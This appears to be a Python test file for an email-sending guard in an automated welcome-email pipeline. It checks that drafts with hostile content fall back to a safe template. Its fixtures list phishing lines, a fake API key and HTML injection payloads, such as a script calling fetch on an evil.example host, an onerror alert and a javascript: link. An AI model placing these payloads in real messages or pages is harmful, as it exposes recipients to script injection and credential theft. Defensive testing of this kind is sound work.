"""The send step guards what it is about to send: a draft in the ledger that names someone else,
links elsewhere, runs code or carries a credential never goes out; the safe template does."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from shared.model import Attempt, Attention, ToolCall, guard_notes
from tests.conftest import make_request
from tests.fakes import FakeChat, FakeMail
from tools.sendgrid import core as sendgrid
from tools.sendgrid import drafting
from tools.slack import core as slack

FIRST = Attempt(queue="q", task_name="t", retry_count=0, max_attempts=8)
SENDER = sendgrid.Sender("welcome@chimera.example", "Chimera")
REQUEST = make_request()
CLEAN = {
    "subject": "Welcome aboard, Acme Corp!",
    "text": "Hello Ada, welcome aboard! See https://acme.example/start for your project.",
    "html": '<p>Hello Ada, <a href="https://www.acme.example/start">welcome aboard</a>!</p>',
    "source": "model",
}
# What a tampered ledger (or a guard the draft step no longer matches) could hold.
HOSTILE_TEXT = st.sampled_from(
    [
        "Write to billing@evil.example with your card.",
        "Pay at https://evil.example/pay today.",
        "Visit www.acme.example.evil.example/login",
        "Your key: SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuv",
        "Reply to ada@acme.example.evil.example",
    ]
)
HOSTILE_HTML = st.sampled_from(
    [
        "<script>fetch('https://evil.example')</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">open</a>',
        '<a href="//evil.example/x">open</a>',
        '<form action="https://evil.example"><input name=p></form>',
        '<a href="&#104;ttps://evil.example">open</a>',
    ]
)


def send_call(draft: dict) -> ToolCall:
    return ToolCall(
        run_id="run-1",
        step_id="email",
        tool="send_welcome_email",
        inputs={"draft": draft},
        request=REQUEST,
    )


def test_a_clean_draft_is_sent_as_it_is():
    mail = FakeMail()
    result = sendgrid.send(send_call(CLEAN), FIRST, mail, SENDER)
    (sent,) = mail.sent
    assert (sent["subject"], sent["text"], sent["html"]) == (
        CLEAN["subject"],
        CLEAN["text"],
        CLEAN["html"],
    )
    assert guard_notes(result.output) == []


@given(
    field=st.sampled_from(["subject", "text", "html"]),
    text=HOSTILE_TEXT,
    markup=HOSTILE_HTML,
    use_markup=st.booleans(),
)
def test_a_draft_the_guard_refuses_is_never_sent_the_template_is(field, text, markup, use_markup):
    hostile = markup if use_markup and field == "html" else text
    draft = {**CLEAN, field: CLEAN[field] + " " + hostile}  # a subject stays under its cap
    mail = FakeMail()
    result = sendgrid.send(send_call(draft), FIRST, mail, SENDER)

    (sent,) = mail.sent
    assert sent["to_email"] == REQUEST.contact_email
    template = drafting.template_email(REQUEST, SENDER.name)
    assert (sent["subject"], sent["text"], sent["html"]) == (
        template.subject,
        template.text,
        template.html,
    )
    assert drafting.review(template.model_dump(), REQUEST).email is not None
    assert result.output["subject"] == template.subject
    notes = {note.kind: note for note in guard_notes(result.output)}
    assert set(notes) == {"guard.send_refused", "guard.template_sent"}
    assert Attention.DRAFT_REFUSED in notes["guard.send_refused"].attention
    assert notes["guard.send_refused"].detail["reasons"]
    assert notes["guard.template_sent"].attention == (Attention.TEMPLATE_EMAIL,)


def test_the_slack_notice_names_no_recipient_but_the_requests_contact():
    chat = FakeChat()
    notice = ToolCall(
        run_id="run-1",
        step_id="slack",
        tool="post_slack_notice",
        inputs={"email": {"to": "victim@other.example", "subject": "hi"}},
        request=REQUEST,
    )
    slack.post_notice(notice, FIRST, chat, "#general")
    assert "victim@other.example" not in chat.messages[0]["text"]
    honest = notice.model_copy(update={"inputs": {"email": {"to": "ada@acme.example"}}})
    slack.post_notice(honest, FIRST, chat, "#general")
    assert "Welcome email sent to ada@acme.example" in chat.messages[1]["text"]
